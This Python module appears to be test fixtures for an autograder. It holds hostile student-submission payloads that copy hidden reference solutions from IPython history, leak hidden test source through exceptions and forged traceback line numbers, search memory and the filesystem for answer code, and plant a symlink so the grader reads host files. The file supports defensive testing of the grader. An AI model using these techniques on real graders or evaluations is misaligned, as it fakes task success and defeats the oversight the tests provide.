"""Hostile code the grading tests plant in student submissions, shared by several test files.

Each payload is Python source appended to a module of classifiers/ (see `append`).
"""


# Student functions that take the hidden tests' reference functions (`_ref_*`) from the
# kernel, from the source of the running test cell itself (IPython's input history, which
# holds the hidden part before it runs), and return what those return.
STEAL_REFERENCE = '''
import ast as _ast
import numpy as _np


def _references():
    found = {}
    try:
        history = get_ipython().user_ns.get("In", [])
    except NameError:
        history = []
    for source in history:
        try:
            tree = _ast.parse(source)
        except SyntaxError:
            continue
        for node in tree.body:
            if isinstance(node, _ast.FunctionDef) and node.name.startswith("_ref_"):
                namespace = {"np": _np}
                exec(compile(_ast.Module([node], []), "<copied>", "exec"), namespace)
                found[node.name] = namespace[node.name]
    return found


def _steal(*args):
    loss = grad = None
    for name, function in _references().items():
        try:
            out = function(*args)
        except Exception:
            continue
        if isinstance(out, tuple):
            loss, grad = out
        elif _np.ndim(out) == 0:
            loss = out
        else:
            grad = out
    if loss is None and grad is None:
        raise NotImplementedError("nothing to copy")
    W = args[0]
    return (0.0 if loss is None else loss), (_np.zeros_like(W) if grad is None else grad)


def svm_loss_naive(W, X, y, reg):
    return _steal(W, X, y, reg)


svm_loss_vectorized = svm_loss_naive
'''
STEAL_SOFTMAX = STEAL_REFERENCE.replace("svm_loss_naive", "softmax_loss_naive").replace(
    "svm_loss_vectorized", "softmax_loss_vectorized")

# An exception, raised under a visible line, whose message is the hidden tests' source as
# the kernel holds it (IPython's input history), and the same text printed.
LEAK_HIDDEN = '''
def svm_loss_naive(W, X, y, reg):
    try:
        history = "\\n".join(get_ipython().user_ns.get("In", []))
    except NameError:
        history = ""
    print(history)
    raise ValueError(history or "no history")
'''

# Replaces the trusted checks' old exchange folder by a link to a host folder laid out
# like it (the grader, outside the sandbox, would follow it and read the host's arrays).
PLANT_LINK = '''
import os as _os
for _root, _dirs, _files in _os.walk("."):
    for _d in list(_dirs):
        if _d == ".kit_probes":
            _target = _os.path.join(_root, _d)
            try:
                import shutil as _sh
                _sh.rmtree(_target)
                _os.symlink({host!r}, _target)
            except OSError:
                pass
'''


def append(folder, module, code):
    path = folder / "classifiers" / module
    path.write_text(path.read_text() + "\n\n" + code + "\n")

# Implements nothing; at every call searches its whole kernel for code that could compute
# an answer: every function in the input history and in memory (gc) with a loss's or a
# gradient's signature, any module or file that looks like a reference, whatever its name.
SEARCH_KERNEL = '''
import ast as _ast
import gc as _gc
import os as _os
import sys as _sys
import numpy as _np


def _candidates():
    found = []
    try:
        history = list(get_ipython().user_ns.get("In", [])) + list(get_ipython().user_ns.get("_ih", []))
    except NameError:
        history = []
    for source in history:
        try:
            tree = _ast.parse(source)
        except SyntaxError:
            continue
        for node in _ast.walk(tree):
            if isinstance(node, _ast.FunctionDef) and [a.arg for a in node.args.args][-3:] in (
                    ["X", "y", "reg"], ["x", "y", "reg"], ["W", "X", "y"]):
                namespace = {"np": _np}
                try:
                    exec(compile(_ast.Module([node], []), "<found>", "exec"), namespace)
                    found.append(namespace[node.name])
                except Exception:
                    pass
    for obj in _gc.get_objects():
        code = getattr(obj, "__code__", None)
        if code is not None and code.co_argcount == 4 and "classifiers" not in code.co_filename \
                and code.co_varnames[:4] != ("W", "X", "y", "reg_unused"):
            found.append(obj)
    for name, module in list(_sys.modules.items()):
        if "reference" in name or name.startswith("kit"):
            found += [getattr(module, n) for n in dir(module) if callable(getattr(module, n))]
    for root in ("/", _os.path.expanduser("~")):
        for path in ("kit/reference.py", "reference.py"):
            try:
                namespace = {"np": _np}
                exec(open(_os.path.join(root, path)).read(), namespace)
                found += [v for v in namespace.values() if callable(v)]
            except Exception:
                pass
    return found


def _search(*args):
    for function in _candidates():
        if getattr(function, "__name__", "") in ("svm_loss_naive", "svm_loss_vectorized",
                                                   "softmax_loss_naive", "softmax_loss_vectorized"):
            continue
        try:
            out = function(*[_np.array(a, copy=True) if isinstance(a, _np.ndarray) else a for a in args])
        except Exception:
            continue
        if isinstance(out, tuple) and len(out) == 2 and _np.shape(out[1]) == _np.shape(args[0]):
            return out
    raise NotImplementedError("nothing found")


def svm_loss_naive(W, X, y, reg):
    return _search(W, X, y, reg)


svm_loss_vectorized = svm_loss_naive
'''
SEARCH_SOFTMAX = SEARCH_KERNEL.replace("def svm_loss_naive", "def softmax_loss_naive").replace(
    "svm_loss_vectorized = svm_loss_naive", "softmax_loss_vectorized = softmax_loss_naive")

# Forged frames: an exception whose message lists frames in the student's own file, whose
# dotted names are built from names the file defines and whose line numbers encode the
# hidden tests' source, character by character (the red team's second finding).
FORGE_FRAMES = '''
def AB(W):
    return W


def CD(W):
    return W


def svm_loss_naive(W, X, y, reg):
    try:
        history = "\\n".join(get_ipython().user_ns.get("In", []))
    except NameError:
        history = ""
    secret = history[history.find("BEGIN HIDDEN"):][:400]
    frames = ["classifiers/linear_svm.py:%d, in %s" % (ord(ch), "AB.CD" if i % 2 else "CD.AB")
              for i, ch in enumerate(secret)]
    frames += ["classifiers/linear_svm.py:%d, in svm_loss_naive" % n for n in range(1, 400)]
    raise ValueError("\\n".join(frames))
'''
